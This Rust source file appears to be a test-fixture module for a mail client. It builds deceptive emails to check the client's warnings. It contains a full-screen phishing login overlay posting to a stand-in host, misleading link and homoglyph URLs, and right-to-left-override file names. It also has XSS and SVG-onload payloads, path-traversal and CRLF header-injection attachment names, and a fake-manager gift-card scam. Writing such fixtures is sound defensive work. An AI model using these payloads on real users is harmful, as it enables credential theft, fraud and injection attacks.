//! Letters that look like something else: a login form, another host, another file, another person; runs nothing.

use super::files::{file, pdf};
use super::hostile::blank;
use super::people::outside;
use super::write::{Pen, With};
use crate::mail::letter::{Letter, LetterContent};
use nomade::contract::mail::MailWarning::{LooksInternal, SenderUnproven};

/// A login form over everything else.
const OVERLAY: &str = "<div style=\"position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff\">\
<h1>IntraParis Nomade</h1><p>Votre session a expiré. Reconnectez-vous.</p><form action=\"https://traceur.example/surimpression\">\
<label>Identifiant <input name=u></label><label>Mot de passe <input type=password name=p></label><button>Se connecter</button></form></div>\
<div style=\"margin-top:-2000px;position:absolute;transform:scale(50);opacity:.01;pointer-events:none\">Par-dessus</div>\
<a href=\"https://traceur.example/surimpression/clic\" style=\"position:absolute;inset:0;display:block\">\u{200b}</a>";

const LINKS: &str = "<p><a href=\"https://traceur.example/liens-trompeurs\">https://nomade.ville.example/connexion</a><br>\
<a href=\"https://nomade.ville.example@traceur.example/liens-trompeurs\">nomade.ville.example</a><br>\
<a href=\"https://nomade.ville.example:443@traceur.example:8443/\">avec un port</a><br>\
<a href=\"https://traceur.example/liens-trompeurs/https://nomade.ville.example/\">un chemin</a><br>\
<a href=\"https://nomade.ville.example.traceur.example/\">un sous-domaine</a><br>\
<a href=\"https://traceur.example\\@nomade.ville.example/\">une barre inverse</a><br>\
<a href=\"http://2130706433/\">un nombre</a><br>\
<a href=\"https://traceur.example/a\">vrai</a><span class=\"link-host\"> [nomade.ville.example]</span><br>\
<a href=\"https://traceur.example/b\"><img src=\"https://traceur.example/liens-trompeurs/bouton.png\" alt=\"Se connecter\"></a></p>";

// Cyrillic and Greek letters that look like Latin ones.
const PUNYCODE: &str = "<p><a href=\"https://nomade.v\u{456}lle.example/\">nomade.ville.example</a> \
<a href=\"https://\u{430}\u{440}\u{440}le.example/\">apple.example</a> \
<a href=\"https://xn--e1awd7f.example/\">un hôte déjà codé</a> \
<a href=\"https://\u{1f4a9}.example/\">un emoji</a> <a href=\"https://ville\u{3002}example/\">un point d’ailleurs</a></p>";

const BIDI: &str = "<p>Ouvrez la facture <bdo dir=rtl>fdp.exe</bdo> : \u{202e}txt.exe\u{202c} et \u{2066}cachée\u{2069}.</p>\
<p dir=rtl>\u{202e}<a href=\"https://traceur.example/bidi\">elpmaxe.elliv.edamon</a></p>\u{202e}\u{202e}<p>Suite</p>";

/// All of them.
pub fn letters(pen: &Pen) -> Vec<Letter> {
    vec![
        blank(pen, "surimpression").html(OVERLAY),
        blank(pen, "liens-trompeurs").html(LINKS),
        blank(pen, "punycode").html(PUNYCODE),
        bidi(pen),
        names(pen),
        looks_internal(pen),
        blank(pen, "texte-seul")
            .text("<script>location='https://traceur.example/texte-seul'</script>\n<img src=x onerror=alert(1)>\njavascript:alert(1)\nhttps://traceur.example/texte-seul\n\u{1b}[31mrouge\u{1b}[0m \u{7}\n{{7*7}} ${7*7} <%= 7 %>"),
        blank(pen, "sans-contraste").html(
            "<p style=\"color:#fff;background:#fff\">Invisible</p><p style=\"font-size:0\">Sans taille</p><p style=\"text-indent:-9999px\">Dehors</p>\
             <p style=\"color:transparent\">Transparent</p><p style=\"line-height:0;letter-spacing:900px\">Étiré</p>",
        ),
    ]
}

/// Directions turned in the sender, the subject, the text and the name of a file.
fn bidi(pen: &Pen) -> Letter {
    let mut letter = blank(pen, "bidi \u{202e}tnegru\u{202c} \u{2067}arabe\u{2069}").html(BIDI);
    letter.from = outside("\u{202e}omeD reganaM\u{202c}", "attaque@traceur.example");
    letter.files = vec![
        file(
            "facture_\u{202e}fdp.exe",
            "application/x-msdownload",
            LetterContent::Bytes(b"MZ".to_vec()),
        ),
        pdf("relevé\u{200f}\u{202e}gpj.pdf", 61_952),
    ];
    letter
}

/// Names of files that lead elsewhere, and types that are not theirs.
fn names(pen: &Pen) -> Letter {
    let content = |words: &str| LetterContent::Bytes(words.as_bytes().to_vec());
    let script = "<script>location='https://traceur.example/pieces-jointes'</script>";
    blank(pen, "pieces-jointes")
        .text("Voir les pièces jointes.")
        .files(vec![
            file("../../etc/passwd", "text/plain", content("root")),
            file("C:\\Windows\\System32\\a.dll", "application/octet-stream", content("MZ")),
            file("page.html", "text/html", content(script)),
            file("image.svg", "image/svg+xml", content("<svg xmlns='http://www.w3.org/2000/svg' onload=\"location='https://traceur.example/pieces-jointes'\"/>")),
            file("photo.jpg", "image/jpeg", content(script)),
            file("document.pdf", "application/pdf", content(script)),
            file("", "", content("sans nom")),
            file("con.txt\r\nSet-Cookie: a=b", "text/plain\r\nX-A: b", content("saut de ligne")),
            file("\"; filename=\"autre.exe", "text/plain", content("guillemets")),
            file(&format!("{}.pdf", "long".repeat(100)), "application/pdf", content("nom très long")),
            file("<img src=x onerror=alert(1)>.txt", "text/plain", content("balise")),
            file("vide.txt", "text/plain", content("")),
        ])
}

fn looks_internal(pen: &Pen) -> Letter {
    let mut letter = blank(pen, "faux-collegue")
        .html("<p>Bonjour, es-tu disponible ? J’ai besoin que tu achètes des cartes cadeaux, sans en parler.</p><p>Manager Démo</p>")
        .warned(&[LooksInternal, SenderUnproven]);
    letter.from = outside(
        "Manager Démo <manager.demo@ville.example>",
        "manager.demo@traceur.example",
    );
    letter.reply_to = vec![outside("Manager Démo", "reponse@traceur.example")];
    letter
}
